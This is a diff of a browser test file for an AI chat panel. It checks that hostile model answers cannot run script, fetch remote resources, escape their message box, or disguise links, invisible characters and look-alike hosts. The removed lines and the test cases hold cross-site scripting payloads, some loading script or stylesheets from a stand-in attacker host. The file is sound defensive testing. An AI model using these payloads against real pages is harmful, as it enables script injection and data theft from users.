@@ -1,7 +1,9 @@
-// What a hostile model or server may write: nothing of it runs, nothing is fetched, and no link leaves by itself.
+// What a hostile model or server may write: nothing of it runs, nothing is fetched, nothing leaves its message, and no
+// link leaves by itself. In the panel's own page, under its own policy.
 
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { answered, answering, richAnswer, said, snapshot } from "./fixtures.js";
+import { hostilePayloads } from "./hostile-payloads.js";
 import { Bench, type PanelPage, words } from "./page.js";
 
 let bench: Bench;
@@ -11,55 +13,41 @@ beforeAll(async () => {
 });
 afterAll(() => bench?.close());
 
-const away = "https://attacker.example";
-const payloads = [
-  "<script>window.hacked = 1</script>",
-  `<script src="${away}/x.js"></script>`,
-  '<img src=x onerror="window.hacked = 1">',
-  `<img src="${away}/pixel.gif">`,
-  `![](${away}/pixel.gif)`,
-  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
-  "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
-  `<iframe src="${away}"></iframe><iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>`,
-  `<style>@import url("${away}/x.css"); * { background: url("${away}/y") }</style>`,
-  `<link rel="stylesheet" href="${away}/x.css"><meta http-equiv="refresh" content="0;url=${away}"><base href="${away}">`,
-  `<form action="${away}"><input name="q" autofocus onfocus="window.hacked = 1"><button formaction="javascript:window.hacked=1">go</button></form>`,
-  '<a href="javascript:window.hacked=1" id="trap">click</a> [click](javascript:window.hacked=1)',
-  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-  `<object data="${away}"></object><embed src="${away}"><video src="${away}" autoplay></video><audio src="${away}"></audio>`,
-  '<div style="position:fixed;inset:0;background:url(https://attacker.example/z)" class="message" id="x">overlay</div>',
-  '<details open ontoggle="window.hacked = 1"><summary>s</summary></details>',
-  "<b title='x' onmouseover='window.hacked=1' data-testid='send-button'>b</b>",
-  '<a href="https://example.org" onclick="window.hacked=1" target="_top" ping="https://attacker.example">ok</a>',
-  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
-  "<template><script>window.hacked = 1</script></template>",
-  "```html\n<script>window.hacked = 1</script>\n```",
-  '```"><img src=x onerror=window.hacked=1>\ncode\n```',
-  "[x]: javascript:window.hacked=1 'title'\n\n[x]",
-  "<snowcell-chat></snowcell-chat><snowcell-code-block></snowcell-code-block><vscode-button>b</vscode-button>",
-  "<!--><img src=x onerror=window.hacked=1>-->",
-  "<img\nsrc=x\nonerror=window.hacked=1\n",
-  "<x onclick=window.hacked=1 style=animation-name:blink onanimationstart=window.hacked=1>x",
-];
+const payloads = Object.values(hostilePayloads).flat();
 
-/** What must not be in a message, and what ran or was asked for. */
+/** What must not be in the answers, what of them reaches out of their messages, and what ran or was asked for. */
 async function harm(panel: PanelPage): Promise<unknown> {
   await panel.page.locator('[data-testid="message-body"]').last().waitFor();
   await panel.drawn();
   const found = await panel.page.evaluate(() => {
-    const body = [...document.querySelectorAll(".message-body.markdown")].at(-1);
+    const bodies = [...document.querySelectorAll(".message-body.markdown")];
+    const all = bodies.flatMap((body) => [...body.querySelectorAll("*")]);
     const forbidden =
-      "script, style, svg, math, iframe, object, embed, form, input, link, meta, base, img, video, audio, template";
-    const elements = [...(body?.querySelectorAll(forbidden) ?? [])].map(({ nodeName }) => nodeName);
-    const attributes = [...(body?.querySelectorAll("*") ?? [])]
-      .filter((element) => !element.closest("snowcell-code-block"))
+      "script, style, svg, math, iframe, object, embed, form, input, select, textarea, dialog, link, meta, base, img, video, audio, template";
+    const elements = all.filter((element) => element.matches(forbidden)).map(({ nodeName }) => nodeName);
+    const written = all.filter((element) => !element.closest("snowcell-code-block"));
+    const attributes = written
       .flatMap((element) => [...element.attributes].map(({ name, value }) => `${name}=${value}`))
-      .filter(
-        (attribute) =>
-          !/^(dir=auto|(href|title)=(https?:|mailto:|x$)|align=|data-task=|class=table-frame|tabindex=0$)/.test(attribute),
-      );
-    const nested = body?.querySelectorAll("snowcell-chat, vscode-button").length;
-    return { elements, attributes, nested, hacked: "hacked" in window };
+      .filter((attribute) => {
+        const ours = /^(dir=auto|align=\w+|data-task=|data-character=U\+|class=table-frame|tabindex=0$)/;
+        return !ours.test(attribute) && !/^(href|title)=(https?:\/\/[^@]*$|mailto:|x$|example)/.test(attribute);
+      });
+    const nested = bodies.flatMap((body) => [...body.querySelectorAll("snowcell-chat, vscode-button")]).length;
+    // What scrolls inside its own frame may be wider than the message.
+    const outside = all.filter((element) => {
+      const message = element.closest(".message")?.getBoundingClientRect();
+      const box = element.getBoundingClientRect();
+      const { position, zIndex } = getComputedStyle(element);
+      const leaves = !message || box.top < message.top - 1 || box.bottom > message.bottom + 1 || box.left < message.left - 1;
+      return (leaves && box.height > 0) || /fixed|absolute|sticky/.test(position) || zIndex !== "auto";
+    });
+    const composer = document.querySelector("textarea.composer-input")?.getBoundingClientRect();
+    const onTop = document.elementFromPoint((composer?.left ?? 0) + 5, (composer?.top ?? 0) + 5);
+    return {
+      ...{ elements, attributes, nested, outside: outside.map(({ outerHTML }) => outerHTML.slice(0, 200)) },
+      ...{ hacked: "hacked" in window, title: document.title, heads: document.head.childElementCount },
+      ...{ page: document.body.childElementCount, composer: onTop?.className, focus: document.activeElement?.nodeName },
+    };
   });
   const { violations, errors } = await panel.recorded();
   const requests = panel.requests.filter((address) => !address.startsWith("http://127.0.0.1"));
@@ -67,24 +55,37 @@ async function harm(panel: PanelPage): Promise<unknown> {
 }
 
 const harmless = {
-  ...{ elements: [], attributes: [], nested: 0, hacked: false },
-  ...{ violations: [], errors: [], requests: [], pages: true },
+  ...{ elements: [], attributes: [], nested: 0, outside: [], hacked: false, title: "SnowCell", heads: 8, page: 1 },
+  ...{ composer: "composer-input", focus: "BODY", violations: [], errors: [], requests: [], pages: true },
 };
 
 describe("a hostile answer", () => {
-  it.each(payloads)("does nothing when shown whole: %s", async (payload) => {
+  it("comes in every kind", () => {
+    expect(payloads.length).toBeGreaterThanOrEqual(80);
+    expect(new Set(payloads).size).toBe(payloads.length);
+  });
+
+  it.each(Object.entries(hostilePayloads))("does nothing when shown whole: %s", async (_, group) => {
     const panel = await bench.page();
-    await panel.snapshot(
-      snapshot({ messages: [said("u1", payload), answered("m1", `before ${payload}\n\n${payload}\n\nafter`)] }),
-    );
-    expect(await harm(panel)).toEqual(harmless);
+    for (const [index, payload] of group.entries()) {
+      const id = `m${index}`;
+      const messages = [
+        said(`u${index}`, payload),
+        answered(id, `before ${payload}\n\n${payload}\n\nafter`, { reasoning: payload }),
+      ];
+      await panel.snapshot(snapshot({ seq: 10 + index, messages }));
+      await panel.page.locator(`[data-message-id="${id}"] [data-testid="message-body"]`).last().waitFor();
+      await panel.page.locator("summary").click();
+      await panel.page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
+      expect(await harm(panel), payload).toEqual(harmless);
+    }
     await panel.close();
   });
 
-  it("does nothing at any point of its stream", async () => {
+  it.each(Object.entries(hostilePayloads))("does nothing at any point of its stream: %s", async (_, group) => {
     const panel = await bench.page();
     await panel.snapshot(snapshot({ messages: [answering("m1", "")], streams: [{ stream: 1, messageId: "m1" }] }));
-    for (const piece of payloads.join("\n\n").match(/[\s\S]{1,9}/g) ?? []) {
+    for (const piece of group.join("\n\n").match(/[\s\S]{1,13}/gu) ?? []) {
       await panel.text(1, piece);
       await panel.drawn();
     }
@@ -93,7 +94,7 @@ describe("a hostile answer", () => {
   });
 
   it("cannot hide in what the person said, in names or in errors", async () => {
-    const evil = '<img src=x onerror="window.hacked=1">';
+    const evil = '<img src=x onerror="window.hacked = 1">';
     const panel = await bench.page();
     const failure = { kind: evil, title: evil, explanation: evil, actions: [{ action: evil, label: evil }] };
     const attachments = [{ id: evil, label: evil, tokens: 1 }];
@@ -120,10 +121,45 @@ describe("a hostile answer", () => {
   });
 });
 
-describe("a link", () => {
-  it("asks the host to open it, and says where it leads", async () => {
+describe("code", () => {
+  const tricks = "const is\u200badmin = '\u202e \u2066x\u2069'; // \u001b[31m";
+  const shown = ["U+200B", "U+202E", "U+2066", "U+2069", "U+001B"];
+
+  it.each([
+    ["in a block, once it is coloured", `\`\`\`js\n${tricks}\n\`\`\``, "[data-highlighted]"],
+    ["in a block of no language", `\`\`\`\n${tricks}\n\`\`\``, "pre"],
+    ["within a line", `\`${tricks}\``, "p code"],
+    ["in a block inside of a list", `- \`\`\`\n  ${tricks}\n  \`\`\``, "li pre"],
+  ])("shows characters that are not seen, and keeps them: %s", async (_, text, selector) => {
     const panel = await bench.page();
-    await panel.snapshot(snapshot({ messages: [answered("m1", "[docs](https://example.org/a?b=c) and [file](src/a.ts:12)")] }));
+    await panel.snapshot(snapshot({ messages: [answered("m1", text)] }));
+    const code = panel.page.locator(selector).first();
+    await code.waitFor();
+    const marks = code.locator("[data-character]");
+    expect(await marks.evaluateAll((all) => all.map((each) => (each as HTMLElement).dataset["character"]))).toEqual(shown);
+    expect(await marks.first().evaluate((each) => getComputedStyle(each, "::before").content)).toBe('"U+200B"');
+    expect(await marks.first().evaluate((each) => each.getBoundingClientRect().width)).toBeGreaterThan(20);
+    expect((await code.textContent())?.includes(tricks)).toBe(true);
+    await panel.close();
+  });
+
+  it("leaves emoji and other scripts as they are", async () => {
+    const panel = await bench.page();
+    await panel.snapshot(snapshot({ messages: [answered("m1", "`👩‍👩‍👧 ❤️ 👨🏽‍💻 #️⃣ مرحبا 日本語 naïve`")] }));
+    expect(await panel.page.locator("[data-character]").count()).toBe(0);
+    await panel.close();
+  });
+});
+
+describe("a link", () => {
+  const shown = async (text: string): Promise<PanelPage> => {
+    const panel = await bench.page();
+    await panel.snapshot(snapshot({ messages: [answered("m1", text)] }));
+    return panel;
+  };
+
+  it("asks the host to open it, and says where it leads", async () => {
+    const panel = await shown("[docs](https://example.org/a?b=c) and [file](src/a.ts:12)");
     const links = panel.get("message-body").locator("a");
     expect(await links.first().getAttribute("title")).toBe("https://example.org/a?b=c");
     await links.first().click();
@@ -137,6 +173,52 @@ describe("a link", () => {
     ]);
     expect(panel.requests.filter((address) => address.includes("example.org"))).toEqual([]);
     expect(bench.browser.contexts().at(-1)?.pages()).toHaveLength(1);
+    await panel.close();
+  });
+
+  it("that names another host than its own says so beside it", async () => {
+    const panel = await shown(
+      "[https://example.org/x](https://attacker.example/y), [example.org](https://www.attacker.example), [www.example.org](https://example.org) and [lookup.ts](https://example.org)",
+    );
+    expect(await words(panel.get("message-body"))).toBe(
+      "https://example.org/x (attacker.example), example.org (www.attacker.example), www.example.org and lookup.ts",
+    );
+    await panel.close();
+  });
+
+  it("spells out a host in letters that only look familiar", async () => {
+    const panel = await shown("[apple](https://аррӏе.example/x)");
+    expect(await panel.page.locator(".message-body a").getAttribute("title")).toMatch(/^https:\/\/xn--/);
+    await panel.close();
+  });
+
+  it.each(["src/lookup.ts", "src/lookup.ts:12", "lookup.ts:12-40", "./src/a/b.test.tsx#L3", "src/a.py:3:7"])(
+    "leads to a file that is written as code: %s",
+    async (path) => {
+      const panel = await shown(`See \`${path}\`.`);
+      await panel.page.locator(".message-body a code").click();
+      expect(await panel.posts("open-link")).toEqual([{ type: "open-link", href: path }]);
+      await panel.close();
+    },
+  );
+
+  it("is not made of code that is no file", async () => {
+    const panel = await shown(
+      "`console.log` `a/b` `example.com/x.js` `../up.ts:1` `/etc/x.conf:1` `1/2.5` `https://example.org/a.ts` `a b/c.ts` `C:/x.ts:1` [`src/a.ts`](https://example.org)",
+    );
+    expect(await panel.page.locator(".message-body a").count()).toBe(1);
+    await panel.close();
+  });
+});
+
+describe("a picture", () => {
+  it("is a link that says whose it is, and is fetched by nobody", async () => {
+    const panel = await bench.page();
+    await panel.snapshot(snapshot({ messages: [answered("m1", "![a cat](https://example.org/cat.png)")] }));
+    expect(await words(panel.get("message-body"))).toBe("[image: a cat · example.org]");
+    await panel.page.locator(".message-body a").click();
+    expect(await panel.posts("open-link")).toEqual([{ type: "open-link", href: "https://example.org/cat.png" }]);
+    expect(panel.requests.filter((address) => address.includes("example.org"))).toEqual([]);
     await panel.close();
   });
 });
